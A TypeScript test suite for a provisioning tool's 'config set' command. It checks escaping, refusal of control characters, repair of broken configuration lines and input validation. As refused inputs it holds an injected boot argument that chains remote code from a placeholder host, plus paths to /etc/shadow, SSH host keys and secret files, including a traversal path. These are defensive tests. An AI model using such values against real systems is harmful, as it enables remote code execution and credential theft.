/**
 * Issue 13, items 5, 6 and 9: a value `config set` accepts loads everywhere and renders; a
 * configuration that does not load can still be shown (naming the bad line) and repaired
 * with `config unset`; region.authorized_keys_file cannot point at an arbitrary file.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import t, { type Test } from 'tap';
import { main, type Io } from '../../src/cli';
import { staticNetworkFacts } from '../../src/core/network-facts';
import { createFileNodeStore } from '../../src/region/node-store';
import type { Paths } from '../../src/core/paths';
import { NODES } from '../packages/tftpd/nodes';
import { REPO_ROOT, put, scratchRoot, snapshotTree } from '../helpers/scratch';

process.env.UEC_PROVISIONING_TEMPLATES ??= path.join(REPO_ROOT, 'templates');

const MANAGED = '/etc/uec-provisioning/conf.d/50-managed.conf';
const network = staticNetworkFacts(
  [{ name: 'eth0', mac: '52:54:00:00:00:01', up: true, loopback: false, virtual: false, ipv4: [{ address: '10.20.0.5', prefix: 24 }], ipv6: [] }],
  { interface: 'eth0', gateway: '10.20.0.1' },
);

async function cli(paths: Paths, args: string[]) {
  let stdout = '';
  let stderr = '';
  const io: Io = { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s), env: { UEC_PROVISIONING_SERVICE_CONTROL: 'none' } };
  const code = await main(['--root', paths.root, ...args], io, { network, nodeStore: createFileNodeStore(paths) });
  return { code, stdout, stderr };
}

/** JSON.stringify, with what it leaves raw escaped too (U+2028 would even split a TAP line). */
const escaped = (value: string): string => JSON.stringify(value).replace(/[\u007f-\u009f\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

/** `config set KEY=VALUE` is refused: exit 3, one line naming the key, the escaped value and why; nothing written. */
async function refused(t: Test, paths: Paths, key: string, value: string, why: RegExp): Promise<void> {
  const before = snapshotTree(paths.root);
  const r = await cli(paths, ['config', 'set', `${key}=${value}`]);
  t.equal(r.code, 3, `${key}=${escaped(value)} refused`);
  t.equal(r.stderr.split('\n').length, 2, 'one line');
  t.ok(r.stderr.includes(key), 'names the key');
  t.ok(r.stderr.includes(escaped(value)), `names the value, escaped: ${escaped(r.stderr)}`);
  t.match(r.stderr, why);
  t.same(snapshotTree(paths.root), before, 'nothing written');
  t.equal((await cli(paths, ['config', 'check'])).code, 0, 'the configuration still loads');
}

t.test('what config set accepts reads back identically and every command still loads', async (t) => {
  const paths = scratchRoot(t);
  for (const [key, value] of [
    ['region.admin_user', 'null'],
    ['server.interface', 'null'],
    ['mirror.host', 'true'],
    ['boot.kernel_args', 'console=ttyS0,115200 quiet'],
    ['archive.main_archive', 'http://x/a;b#c'],
    ['archive.http_proxy', 'http://proxy:3128/;x'],
  ] as const) {
    const set = await cli(paths, ['config', 'set', `${key}=${value}`]);
    t.equal(set.code, 0, `${key}=${value}: ${set.stderr}`);
    const got = await cli(paths, ['config', 'get', key]);
    t.equal(got.code, 0, `config get after setting ${key}: ${got.stderr}`);
    t.equal(got.stdout, `${value}\n`, `${key} reads back as ${escaped(value)} (not empty, not a boolean)`);
    for (const args of [['config', 'show'], ['config', 'check']]) t.equal((await cli(paths, args)).code, 0, `${args.join(' ')} after setting ${key}`);
  }
});

t.test('config set refuses what would not read back, control characters and line separators', async (t) => {
  const paths = scratchRoot(t);
  t.equal((await cli(paths, ['config', 'set', 'log.level=debug'])).code, 0);
  await refused(t, paths, 'boot.kernel_args', 'quiet\u2028x', /line separator|control/);
  await refused(t, paths, 'boot.kernel_args', 'quiet\u2029', /line separator|control/);
  await refused(t, paths, 'boot.kernel_args', 'quiet\u0085x', /line separator|control/);
  await refused(t, paths, 'archive.main_archive', 'http://x/\u2028', /line separator|control/);
  await refused(t, paths, 'region.admin_user', 'a\tb', /control/);
  await refused(t, paths, 'mirror.suites', 'bookworm\u000bx', /control/);
});

t.test('a broken configuration: show names the bad line, unset repairs it', async (t) => {
  for (const [name, line, key, why] of [
    ['a line separator (written by an older config set)', 'kernel_args = quiet\u2028x', 'boot.kernel_args', /line separator/],
    ['an empty admin user', 'admin_user =', 'region.admin_user', /must not be empty/],
  ] as const) {
    await t.test(name, async (t) => {
      const paths = scratchRoot(t);
      const section = key.split('.')[0];
      put(paths, MANAGED, `[log]\nlevel = debug\n\n[${section}]\n${line}\n`);
      const shown = await cli(paths, ['config', 'show']);
      t.equal(shown.code, 3, 'show exits 3');
      t.equal(shown.stderr.split('\n').length, 2, 'one line');
      t.match(shown.stderr, `${MANAGED}:5: [${section}] ${key.split('.')[1]} = `, 'names file, line and key');
      t.notMatch(shown.stderr, /\u2028/, 'the value is escaped');
      t.match(shown.stderr, why);
      t.match(shown.stdout, /^log\.level = debug +# \/etc\/uec-provisioning\/conf\.d\/50-managed\.conf$/m, 'what loads is still shown');
      const json = await cli(paths, ['config', 'show', '--json']);
      t.equal(json.code, 3);
      t.equal((JSON.parse(json.stdout) as Record<string, { value: unknown }>)['log.level']?.value, 'debug');
      t.equal((await cli(paths, ['config', 'check'])).code, 3);
      const unset = await cli(paths, ['config', 'unset', key]);
      t.equal(unset.code, 0, `unset: ${unset.stderr}`);
      const text = fs.readFileSync(paths.resolve(MANAGED), 'utf8');
      t.notMatch(text, key.split('.')[1] as string, 'the bad key is gone from 50-managed.conf');
      t.match(text, /level = debug/, 'the other settings stay');
      t.equal((await cli(paths, ['config', 'check'])).code, 0, 'the configuration loads again');
      t.equal((await cli(paths, ['config', 'show'])).code, 0);
    });
  }
});

t.test('config set can replace a bad value in 50-managed.conf; unset of another key still works', async (t) => {
  const paths = scratchRoot(t);
  put(paths, MANAGED, '[region]\nadmin_user =\n\n[log]\nlevel = debug\n');
  t.equal((await cli(paths, ['config', 'set', 'region.admin_user=ops'])).code, 0, 'setting the bad key fixes it');
  t.equal((await cli(paths, ['config', 'get', 'region.admin_user'])).stdout, 'ops\n');
});

t.test('region.authorized_keys_file is confined to /etc/uec-provisioning/authorized_keys*', async (t) => {
  const paths = scratchRoot(t);
  for (const bad of ['/etc/shadow', '/etc/ssh/ssh_host_ed25519_key', '/var/lib/uec-provisioning/secrets/provisioning.key', '/var/lib/uec-provisioning/webui/accounts.json', '/etc/uec-provisioning/conf.d/50-managed.conf', '/etc/uec-provisioning/authorized_keys/../../shadow']) {
    await refused(t, paths, 'region.authorized_keys_file', bad, /authorized_keys|\.\./);
  }
  for (const good of ['/etc/uec-provisioning/authorized_keys', '/etc/uec-provisioning/authorized_keys.lab']) {
    t.equal((await cli(paths, ['config', 'set', `region.authorized_keys_file=${good}`])).code, 0, good);
  }
  put(paths, '/etc/uec-provisioning/conf.d/90-local.conf', '[region]\nauthorized_keys_file = /etc/shadow\n');
  const check = await cli(paths, ['config', 'check']);
  t.equal(check.code, 3, 'a hand-written /etc/shadow does not load either');
  t.match(check.stderr, /90-local\.conf:2: \[region\] authorized_keys_file = "\/etc\/shadow": /);
});

t.test('config set checks kernel_args and mirror.suites as strictly as the renderers do', async (t) => {
  const paths = scratchRoot(t);
  await refused(t, paths, 'boot.kernel_args', 'quiet || shell && chain http://192.0.2.66/x', /\|/);
  await refused(t, paths, 'boot.kernel_args', 'quiet {x}', /GRUB|\{/);
  await refused(t, paths, 'mirror.suites', 'bookworm #x', /#x/);
  await refused(t, paths, 'mirror.architectures', 'amd64 AMD64', /AMD64/);
  await refused(t, paths, 'mirror.components', 'main Contrib', /Contrib/);
  await refused(t, paths, 'mirror.upstream', 'http://deb.debian.org/debian?x=1', /query/);
});

t.test('values config set accepts render: apply tftpd (kernel_args) and apply mirror (suites) under --root', async (t) => {
  const paths = scratchRoot(t);
  await createFileNodeStore(paths).update((nodes) => void nodes.push(...NODES));
  const kernelArgs = 'console=ttyS0,115200 quiet net.ifnames=0 ip=::::::dhcp';
  t.equal((await cli(paths, ['config', 'set', `boot.kernel_args=${kernelArgs}`])).code, 0);
  const tftpd = await cli(paths, ['apply', 'tftpd']);
  t.equal(tftpd.code, 0, tftpd.stderr);
  t.match(fs.readFileSync(paths.resolve('/var/lib/uec-provisioning/boot/pxelinux.cfg/01-52-54-00-00-00-01'), 'utf8'), kernelArgs);
  t.match(fs.readFileSync(paths.resolve('/var/lib/uec-provisioning/boot/grub/grub.cfg-01-52-54-00-00-00-01'), 'utf8'), kernelArgs);
  const set = await cli(paths, ['config', 'set', 'mirror.mode=mirror', 'mirror.suites=bookworm  bookworm-updates trixie', 'mirror.architectures=amd64 arm64', 'mirror.components=main non-free-firmware']);
  t.equal(set.code, 0, set.stderr);
  const mirror = await cli(paths, ['apply', 'mirror']);
  t.equal(mirror.code, 0, mirror.stderr);
  t.match(fs.readFileSync(paths.resolve('/var/lib/uec-provisioning/mirror.list'), 'utf8'), /trixie/);
});

t.test('the managed drop-in reads back every value it writes, byte for byte', async (t) => {
  const { parseConfigText, renderManagedDropIn } = await import('../../src/core/config');
  for (const value of ['a\\;b', 'a\\\\b', 'a\\#b', '\\', "'", '"', "'x'", '"x"', 'null', 'true', 'false', '[x', 'a=b', 'a;b#c', 'x "y" z', 'ü ß', '']) {
    const parsed = parseConfigText(renderManagedDropIn(new Map([['demo.x', value]])), 'f.conf');
    t.equal(parsed.values.get('demo.x')?.raw, value, escaped(value));
  }
});
